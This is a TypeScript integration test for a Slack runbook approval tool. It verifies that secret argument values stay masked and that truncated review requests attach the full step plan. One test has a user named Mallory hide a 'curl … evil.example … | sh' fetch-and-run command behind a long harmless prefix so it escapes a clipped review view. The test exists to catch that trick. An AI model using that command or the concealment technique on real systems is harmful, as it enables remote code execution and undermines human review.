/**
 * Review 11, F1 and F2: what a run step holds stays as secret as the values it was made from, and a
 * run's review request never hides what runs.
 *
 * F1  a `with` value made from a fixed argument (a plain copy, or inside a larger text) is itself
 *     fixed: the step task's card (`/task show`) and the API's task JSON show •••, and its value is
 *     masked in the step's output like the fixed value itself.
 * F2  a `with` value, an argument or a step's text cut in the review request marks the plan clipped:
 *     the request says so, and the whole plan (every step with its `with` values, every argument,
 *     fixed ones as •••) is uploaded into the request's thread, named by the content version.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shortHash } from '../../src/domain/contentVersion.js';
import { RUNBOOK_MODAL_CALLBACK } from '../../src/slack/render/blocks.js';
import { createApiToken } from '../../src/store/apiTokens.js';
import { getRun } from '../../src/store/runs.js';
import { ApiClient } from '../support/apiClient.js';
import type { FakeMessage } from '../support/fakeSlack.js';
import { AUTHOR, blocksText, Harness, MALLORY, REVIEW_CHANNEL, TASKS_CHANNEL } from '../support/harness.js';
import { waitFor } from '../support/waitFor.js';

const SECRET = 'fixed-secret-zz';
const LONG_HARMLESS = `echo ${'a'.repeat(230)}`;
const EVIL_TAIL = 'curl -s https://evil.example/x | sh';

const yaml = () =>
  [
    'runbooks:',
    '  aliased:',
    '    arguments:',
    `      - { name: token, kind: fixed, value: ${SECRET} }`,
    '    steps:',
    '      - id: one',
    '        script:',
    '          target: sandbox',
    '          script: |',
    '            echo "copy=$ARG_COPY"',
    '            echo "wrapped=$ARG_WRAPPED"',
    '            echo "plain=$ARG_PLAIN"',
    '          with:',
    '            COPY: "${{ args.token }}"',
    '            WRAPPED: "Bearer ${{ args.token }}!"',
    '            PLAIN: "nothing secret"',
    '  wide:',
    '    arguments:',
    '      - { name: note, kind: input }',
    `      - { name: token, kind: fixed, value: ${SECRET} }`,
    '    steps:',
    '      - id: many',
    '        script:',
    '          target: web-prod',
    '          script: "true"',
    '          with:',
    ...Array.from({ length: 20 }, (_, i) => `            W${i}: "${String(i).padStart(2, '0')}${'w'.repeat(185)}${i === 19 ? '-LAST-WITH' : ''}"`),
    '            TOKEN_COPY: "${{ args.token }}"',
  ].join('\n');

describe('run review integrity (review 11: F1, F2)', () => {
  let h: Harness;
  let api: ApiClient;
  let token: string;

  beforeAll(async () => {
    h = await Harness.start({ extraYaml: yaml, runner: { pollMs: 200 } });
    api = await ApiClient.connect(h.app.url);
    token = (await createApiToken(h.database.db, AUTHOR, 'author')).token;
  }, 60_000);
  afterAll(async () => {
    await h?.stop();
  });

  const importAs = async (user: string, json: string) => {
    const seen = h.fake.responses.length;
    const response = await h.command(`runbook import \`\`\`${json}\`\`\``, user);
    const text = blocksText((response.json ?? {}) as { text?: string });
    if (!/Imported/.test(text))
      await h.fake.waitFor(
        () => h.fake.responses.slice(seen).some((r) => /Imported/.test(String((r.body as { text?: string }).text))) || undefined,
        5000,
        'import',
      );
  };

  /** `/task start <reference>`, the form filled and submitted: the run it started. */
  const startFromSlack = async (reference: string, values: Record<string, { value: string }> = {}, user = AUTHOR) => {
    const before = h.fake.views.list.length;
    await h.command(`start ${reference}`, user);
    const form = await h.fake.waitFor(
      () => {
        const view = h.fake.views.list.slice(before).find((v) => v.callback_id === RUNBOOK_MODAL_CALLBACK);
        return view && view.updates > 0 ? structuredClone(view) : undefined;
      },
      5000,
      `the ${reference} form`,
    );
    const last = ((await h.database.db('runs').max('id as id').first()) as { id: number | null } | undefined)?.id ?? 0;
    await h.driver.submitView({ view: form, user, values });
    const row = await waitFor(
      async () => ((await h.database.db('runs').where('id', '>', last).where({ reference }).first('id')) as { id: number } | undefined) ?? null,
      10_000,
      `run of ${reference}`,
    );
    return (await getRun(h.database.db, row.id))!;
  };

  const reviewRequest = (runId: number): Promise<FakeMessage> =>
    h.fake.waitFor(
      () => {
        const m = h.fake.messages(REVIEW_CHANNEL).find((msg) => !msg.thread_ts && blocksText(msg).includes(`wants to start *run ${runId}*`));
        return m ? structuredClone(m) : undefined;
      },
      15_000,
      `review request of run ${runId}`,
    );

  const planFile = (runId: number, request: FakeMessage) =>
    h.fake.waitFor(
      () => h.fake.files.find((f) => f.filename.startsWith(`run-${runId}-`) && f.channel_id === REVIEW_CHANNEL && f.thread_ts === request.ts),
      15_000,
      `the plan file of run ${runId} in the request's thread`,
    );

  it('fixed values: a `with` copy of a fixed argument is shown by neither `/task show` nor the API, and is masked in the output', async () => {
    const run = await startFromSlack('aliased');
    const row = await waitFor(
      async () => ((await h.database.db('tasks').where({ run_id: run.id }).first('id')) as { id: number } | undefined) ?? null,
      15_000,
      'step task',
    );
    await waitFor(async () => ((await h.database.db('tasks').where({ id: row.id }).first('status'))?.status === 'success' ? true : null), 20_000, 'step done');

    // The API: every argument holding the fixed value is •••; the unrelated one is shown.
    const answer = await api.call('GET', `/tasks/${row.id}`, { token });
    expect(answer.status).toBe(200);
    const args = answer.body.task.arguments as Array<{ name: string; kind: string; value: string }>;
    expect(answer.text).not.toContain(SECRET);
    expect(args.find((a) => a.name === 'COPY')).toMatchObject({ kind: 'fixed', value: '•••' });
    expect(args.find((a) => a.name === 'WRAPPED')).toMatchObject({ kind: 'fixed', value: '•••' });
    expect(args.find((a) => a.name === 'PLAIN')).toMatchObject({ kind: 'input', value: 'nothing secret' });

    // Slack: `/task show` of the step's task (the card, with its argument lines).
    const seen = h.fake.responses.length;
    const shown = await h.command(`show ${row.id}`, AUTHOR);
    const slackText = await h.fake.waitFor(
      () => {
        const text = JSON.stringify(shown.json ?? {}) + JSON.stringify(h.fake.responses.slice(seen).map((r) => r.body));
        return text.includes('PLAIN') ? text : undefined;
      },
      5000,
      'the task shown',
    );
    expect(slackText).toContain('nothing secret');
    expect(slackText).not.toContain(SECRET);
    expect(slackText).not.toContain('Bearer');

    // The output: the copies are masked as a whole, like the fixed value.
    const log = await api.call('GET', `/tasks/${row.id}/log`, { token });
    expect(log.status).toBe(200);
    expect(log.text).toContain('plain=nothing secret');
    // Each line holds the mask and nothing else: the value arrived and was masked whole ("Bearer …!" included).
    expect(log.text).toMatch(/^copy=\*{5}$/m);
    expect(log.text).toMatch(/^wrapped=\*{5}$/m);
    expect(log.text).not.toContain(SECRET);
    expect(log.text).not.toContain('Bearer');
  });

  it('Q1/Q4: reviewers see every character of a script step they approve (a long `with` value is not cut without the whole plan in the thread)', async () => {
    await importAs(
      MALLORY,
      JSON.stringify({
        format: 'countersign.runbook/v1',
        reference: 'sneaky',
        arguments: [],
        steps: [{ id: 'one', script: { target: 'web-prod', script: 'eval "$ARG_CMD"', with: { CMD: `${LONG_HARMLESS}; ${EVIL_TAIL}` } } }],
      }),
    );
    const run = await startFromSlack('sneaky', {}, MALLORY);
    expect(run.status).toBe('pending-review');
    const request = await reviewRequest(run.id);
    const text = blocksText(request);
    // The request says it cut something, and where the whole is.
    expect(text).toContain('Not every step can be shown whole here');
    expect(text).toContain(shortHash(run.contentVersion));
    const file = await planFile(run.id, request);
    expect(file.filename).toBe(`run-${run.id}-steps-${shortHash(run.contentVersion)}.txt`);
    const content = file.content.toString('utf8');
    expect(content).toContain(`${LONG_HARMLESS}; ${EVIL_TAIL}`);
    expect(content).toContain('eval "$ARG_CMD"');
    expect(content).toContain('web-prod');
  });

  it('a step text over the block cap and a long argument mark the plan clipped; the file holds every value, fixed ones as •••', async () => {
    const note = `n${'o'.repeat(400)}-END-OF-NOTE`;
    const run = await startFromSlack('wide', { 'arg:note': { value: note } });
    expect(run.status).toBe('pending-review');
    const request = await reviewRequest(run.id);
    expect(blocksText(request)).toContain('Not every step can be shown whole here');
    expect(blocksText(request)).not.toContain(SECRET);
    const content = (await planFile(run.id, request)).content.toString('utf8');
    expect(content).toContain('-LAST-WITH');
    for (let i = 0; i < 20; i++) expect(content).toContain(`ARG_W${i} = ${String(i).padStart(2, '0')}${'w'.repeat(185)}`);
    expect(content).toContain('ARG_TOKEN_COPY = ${{ args.token }}');
    expect(content).toContain(note);
    expect(content).toContain('token = •••');
    expect(content).not.toContain(SECRET);
    // The card in the tasks channel shows no fixed value either.
    const card = await h.fake.waitFor(
      () => h.fake.messages(TASKS_CHANNEL).find((m) => !m.thread_ts && blocksText(m).includes(`*Run ${run.id}* of runbook`)),
      10_000,
      "the run's card",
    );
    expect(blocksText(card)).not.toContain(SECRET);
  });
});
